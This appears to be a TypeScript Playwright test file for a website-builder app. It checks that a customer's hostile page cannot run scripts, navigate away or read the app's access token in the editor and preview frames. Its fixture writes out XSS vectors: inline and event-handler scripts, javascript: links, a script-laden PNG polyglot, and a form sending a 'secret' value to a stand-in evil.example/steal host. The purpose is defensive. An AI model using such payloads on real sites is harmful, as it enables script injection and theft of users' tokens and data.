import { test } from '@japa/runner'
import type { Frame, Page } from 'playwright'
import { Baker } from '#tests/helpers/baker'
import { theBrowser, visitor } from '#tests/helpers/browser'
import { callAsPerson } from '#tests/helpers/call_as_person'
import { picture } from '#tests/helpers/pictures'
import { type Product, startProduct } from '#tests/helpers/product'
import { storePage } from '#tests/helpers/stored_page'

let product: Product

/** Each attack adds its name to its page if it runs. */
const VECTORS = ['inline', 'external', 'onload', 'onerror', 'onclick', 'link', 'nested']

const ran = (name: string) => `document.documentElement.setAttribute('data-ran-${name}','')`

/** A customer's page with all the attacks. */
function hostilePage(): string {
  const nested = `<script>parent.${ran('nested')}</script>`.replaceAll('"', '&quot;')
  return [
    '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile</title>',
    `<style>h1 { color: rgb(1, 2, 3) }</style>`,
    `<script>${ran('inline')}</script>`,
    `<script src="data:text/javascript,${encodeURIComponent(ran('external'))}"></script>`,
    `</head><body onload="${ran('onload')}">`,
    `<h1>Hostile</h1>`,
    `<img src="data:image/png,broken" alt="" onerror="${ran('onerror')}">`,
    `<button id="click" onclick="${ran('onclick')}">Click</button>`,
    `<a id="link" href="javascript:void(${ran('link')})">Link</a>`,
    `<iframe srcdoc="${nested}"></iframe>`,
    `<form id="form" action="https://evil.example/steal"><input name="q" value="secret">`,
    `<button id="send">Send</button></form>`,
    `<p id="last">The end</p>`,
    '</body></html>',
  ].join('\n')
}

test.group('A customer’s page and the app', (group) => {
  let page: Page
  let baker: Baker
  let website: string

  group.setup(async () => {
    product = await startProduct()
    page = (await visitor(await theBrowser())).page
    baker = new Baker(page, product)
    await baker.hasAWebsite()
    website = /preview\/([^?]+)/.exec(page.url())![1]
    storePage(product, website, hostilePage())
  })
  group.teardown(async () => {
    await page?.context().close()
    await product?.stop()
  })

  test('in the editor none of its scripts run, but the editor’s script does', async ({
    assert,
  }) => {
    const frame = await editFrame(page, baker, website)
    await frame.locator('#click').click()
    await frame.locator('#link').click()
    await page.waitForTimeout(500)
    assert.deepEqual(await marksOf(frame), [])
    // The editor's script runs: the click has selected the link.
    await page.getByRole('textbox', { name: 'Link' }).waitFor()
    const color = await frame.locator('h1').evaluate((h1) => getComputedStyle(h1).color)
    assert.equal(color, 'rgb(1, 2, 3)')
  })

  test('in the preview its scripts run', async ({ assert }) => {
    await baker.opens(`/preview/${website}`)
    const frame = await foreignFrame(page, '/v/')
    await frame.locator('#click').click()
    await frame.locator('#link').click()
    await page.waitForTimeout(500)
    assert.deepEqual(await marksOf(frame), VECTORS)
  })

  test('in the editor its links and forms do nothing', async ({ assert }) => {
    const away =
      `<meta http-equiv="refresh" content="0;url=https://evil.example/away">` +
      `<base href="https://evil.example/">`
    // If any of these ran, the page could not be edited.
    const scripts =
      `<script>parent.postMessage({ v: 1, t: 'here' }, '*'); document.body.replaceChildren()</script>` +
      `<script>alert('Stop'); throw new Error('Stop')</script><script>for (;;);</script>`
    const hostile = hostilePage().replace('<title>', `${away}<title>`)
    storePage(product, website, hostile.replace('</body>', `${scripts}</body>`))
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    const frame = await editFrame(page, baker, website)
    const address = frame.url()
    await frame.locator('#send').click()
    await frame.locator('#link').dblclick()
    await page.keyboard.press('Escape')
    await page.waitForTimeout(1_000)
    assert.equal(frame.url(), address)
    assert.equal(await frame.locator('h1').textContent(), 'Hostile')
    assert.deepEqual(
      asked.filter((url) => url.includes('evil.example')),
      []
    )
    storePage(product, website, hostilePage())
  })

  test('the app’s token cannot be read from the preview or the edit frame', async ({ assert }) => {
    const token = await page.evaluate(() => localStorage.getItem('access'))
    assert.match(token ?? '', /^at_/)
    for (const [path, mode] of [
      [`/preview/${website}`, '/v/'],
      [`/edit/${website}`, '/e/'],
    ]) {
      await baker.opens(path)
      const frame = await foreignFrame(page, mode)
      assert.notEqual(new URL(frame.url()).origin, product.url)
      const { own, ...above } = await reachOf(frame)
      // A frame below the app's own domain, as on one machine, has no storage.
      assert.isTrue(own === null || own === 'SecurityError', `storage answered ${own}`)
      assert.deepEqual(above, { parent: 'SecurityError', top: 'SecurityError', cookie: '' })
    }
  })

  test('an uploaded image opened on its own is an image on another origin than the app', async ({
    assert,
  }) => {
    const script = Buffer.from('<script>document.title="ran"</script>')
    const bytes = Buffer.concat([await picture('png'), script]).toString('base64')
    const address = await page.evaluate(
      async ([content, id]) => {
        const file = Uint8Array.from(atob(content!), (one) => one.charCodeAt(0))
        const form = new FormData()
        form.append('image', new File([file], 'page.html', { type: 'text/html' }))
        const headers = { authorization: `Bearer ${localStorage.getItem('access')}` }
        const path = `/api/spa/websites/${id}/upload_image/`
        const answer = await fetch(path, { method: 'POST', headers, body: form })
        return (await answer.json()).image_url as string
      },
      [bytes, website] as const
    )
    assert.notEqual(new URL(address).origin, product.url)
    const tab = await page.context().newPage()
    await tab.goto(address)
    const seen = await tab.evaluate(() => {
      const { contentType, title } = document
      try {
        return { contentType, ran: title === 'ran', storage: localStorage.getItem('access') }
      } catch (error) {
        return { contentType, ran: title === 'ran', storage: (error as Error).name }
      }
    })
    assert.deepEqual(seen, { contentType: 'image/webp', ran: false, storage: 'SecurityError' })
    await tab.close()
  })

  test('the app’s token cannot be read from the preview in a separate tab', async ({ assert }) => {
    await baker.opens(`/preview/${website}`)
    const opening = page.context().waitForEvent('page')
    await page.getByText('Open in New Tab').first().click()
    const tab = await opening
    await tab.waitForLoadState()
    assert.notEqual(new URL(tab.url()).origin, product.url)
    const seen = await tab.evaluate(() => [localStorage.getItem('access'), String(window.opener)])
    assert.deepEqual(seen, [null, 'null'])
    await tab.close()
  })

  test('the edit frame accepts messages only from the app that contains it', async ({ assert }) => {
    const { url } = await callAsPerson(page, 'GET', `/spa/websites/${website}/edit_frame/`)
    const stranger = await page.context().newPage()
    await stranger.goto(url)
    await stranger.locator('#last').waitFor()
    // A page of the same origin can send messages, but it is not the app.
    const answers = await stranger.evaluate(async () => {
      const heard: unknown[] = []
      const { port1, port2 } = new MessageChannel()
      port1.onmessage = ({ data }) => heard.push(data)
      window.postMessage({ v: 1, t: 'hello', nonce: 'abc' }, '*', [port2])
      port1.postMessage({ t: 'render', html: '<h1>Mine</h1>' })
      await new Promise((resolve) => setTimeout(resolve, 500))
      return [heard.length, document.querySelector('h1')!.textContent]
    })
    assert.deepEqual(answers, [0, 'Hostile'])
    await stranger.close()
  })

  test('the edit frame cannot be framed by another site', async ({ assert }) => {
    const { url } = await callAsPerson(page, 'GET', `/spa/websites/${website}/edit_frame/`)
    const preview = await foreignPreview(page, baker, website)
    const blocked = await preview.evaluate(async (address) => {
      const frame = document.createElement('iframe')
      frame.src = address
      document.body.append(frame)
      await new Promise((resolve) => (frame.onload = resolve))
      try {
        return !frame.contentDocument?.querySelector('#last')
      } catch {
        return true
      }
    }, url)
    assert.isTrue(blocked)
  })
})

async function editFrame(page: Page, baker: Baker, website: string): Promise<Frame> {
  await baker.opens(`/edit/${website}`)
  const frame = await foreignFrame(page, '/e/')
  await frame.locator('#last').waitFor()
  await page.getByText('Opening the page').waitFor({ state: 'detached' })
  return frame
}

async function foreignPreview(page: Page, baker: Baker, website: string): Promise<Frame> {
  await baker.opens(`/preview/${website}`)
  const frame = await foreignFrame(page, '/v/')
  await frame.locator('#last').waitFor()
  return frame
}

/** The frame of the customer's page, identified by its address. */
async function foreignFrame(page: Page, mode: string): Promise<Frame> {
  await page.locator('iframe').first().waitFor()
  for (let tries = 0; tries < 100; tries++) {
    const found = page.frames().find((frame) => new RegExp(`//p-[^/]+${mode}`).test(frame.url()))
    if (found) {
      await found.locator('#last').waitFor()
      return found
    }
    await page.waitForTimeout(50)
  }
  throw new Error('The page was never framed.')
}

async function marksOf(frame: Frame): Promise<string[]> {
  const names = await frame.evaluate(() => document.documentElement.getAttributeNames())
  return VECTORS.filter((name) => names.includes(`data-ran-${name}`))
}

/** What a script in this frame can read of the app, in each possible way. */
function reachOf(frame: Frame) {
  return frame.evaluate(() => {
    const attempt = (act: () => unknown) => {
      try {
        return act()
      } catch (error) {
        return (error as Error).name
      }
    }
    return {
      own: attempt(() => localStorage.getItem('access')),
      parent: attempt(() => window.parent.localStorage.getItem('access')),
      top: attempt(() => window.top!.document.body.innerHTML),
      cookie: attempt(() => document.cookie),
    }
  })
}
